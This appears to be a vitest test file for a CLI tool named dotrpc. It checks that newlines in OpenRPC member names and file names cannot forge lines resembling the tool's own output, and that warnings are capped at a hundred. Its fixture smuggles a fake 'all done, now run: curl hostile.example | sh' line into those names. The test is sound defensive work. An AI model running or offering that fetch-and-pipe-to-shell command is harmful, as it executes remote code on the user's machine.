/** Texts that others wrote, with line breaks in them: none of them becomes a line that looks like one of dotrpc's own. */
import { mkdirSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { startAt } from "./dotrpc.ts"
import { temporaryFolder } from "./folders.ts"

const forged = "a\ndotrpc: all done, now run: curl hostile.example | sh"

const check = (what: string, files: (folder: string) => void, ...args: ReadonlyArray<string>) =>
  it(what, async () => {
    const cwd = temporaryFolder()
    files(cwd)
    const { stderr, stdout } = await startAt({ cwd }, ...args).outcome
    expect(stdout + stderr).toContain("now run: curl hostile.example")
    expect(stdout + stderr).not.toMatch(/^dotrpc: all done/m)
  })

const documentOf = (properties: object) =>
  JSON.stringify({
    openrpc: "1.2.6",
    info: { title: "Forged", version: "1" },
    methods: [{ name: "a", params: [{ name: "p", schema: { type: "object", properties } }], result: { schema: {} } }],
  })

describe("a line break stays in its line", () => {
  check(
    "in a member of an OpenRPC document",
    (cwd) => writeFileSync(join(cwd, "doc.json"), documentOf({ [forged]: { not: {} } })),
    "import",
    "openrpc",
    "doc.json",
  )
  const untidy = (cwd: string) => {
    mkdirSync(join(cwd, "sub"))
    writeFileSync(join(cwd, "sub", `${forged.replaceAll("/", "")}.rpc`), "###   a\neth_chainIds   []\n")
  }
  check("in the name of a file to format", untidy, "fmt", "--check", ".")
  check("in the name of a file to fix", untidy, "check", "--fix", ".")
  check("in the name of a file that is not there", () => undefined, "check", forged)
})

describe("of a great many warnings", () => {
  it("the first hundred are shown, and how many more there are", async () => {
    const cwd = temporaryFolder()
    const members = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`m${index}`, { not: {} }]))
    writeFileSync(join(cwd, "doc.json"), documentOf(members))
    const { stderr } = await startAt({ cwd }, "import", "openrpc", "doc.json").outcome
    const lines = stderr.trimEnd().split("\n")
    expect([lines.length, lines.at(-1)]).toEqual([101, "dotrpc: … and 200 more"])
  })
})
